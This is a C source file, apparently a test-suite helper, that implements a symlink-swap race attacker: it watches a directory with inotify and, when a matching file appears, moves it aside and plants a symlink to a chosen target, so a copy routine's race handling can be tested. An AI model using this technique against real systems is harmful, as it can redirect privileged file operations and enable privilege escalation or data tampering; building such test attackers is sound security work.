/* swaptop DIR PATTERN TARGET READY — the attacker of review 40 F1 (after
 * /tmp/review40/p5/swap.c), for t_copyrace: watches DIR (a directory the
 * attacker may write) with inotify and, as soon as an entry whose name holds
 * PATTERN is created there, renames it to DIR/moved-away and plants a
 * symlink to TARGET under its name; exits 0 once swapped. READY is created
 * once the watch is in place, so the case starts the tool only then: no
 * sleep decides whether the swapper sees the create. Exits 1 on an error. */
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <unistd.h>
#include <fcntl.h>

int main(int argc, char **argv)
{
	if (argc != 5) {
		fprintf(stderr, "usage: swaptop DIR PATTERN TARGET READY\n");
		return 2;
	}
	int fd = inotify_init1(IN_CLOEXEC);
	if (fd < 0 || inotify_add_watch(fd, argv[1], IN_CREATE) < 0) {
		perror("swaptop: inotify");
		return 1;
	}
	int r = open(argv[4], O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
	if (r < 0) {
		perror("swaptop: ready file");
		return 1;
	}
	close(r);
	char buf[4096] __attribute__((aligned(8)));
	for (;;) {
		ssize_t n = read(fd, buf, sizeof(buf));
		if (n <= 0) {
			perror("swaptop: read");
			return 1;
		}
		for (char *p = buf; p < buf + n;) {
			struct inotify_event *e = (struct inotify_event *)p;
			if (e->len && strstr(e->name, argv[2])) {
				char from[4096], to[4096];
				snprintf(from, sizeof(from), "%s/%s", argv[1], e->name);
				snprintf(to, sizeof(to), "%s/moved-away", argv[1]);
				if (rename(from, to) == 0 && symlink(argv[3], from) == 0) {
					printf("swapped %s -> %s\n", e->name, argv[3]);
					return 0;
				}
				perror("swaptop: swap");
				return 1;
			}
			p += sizeof(*e) + e->len;
		}
	}
}
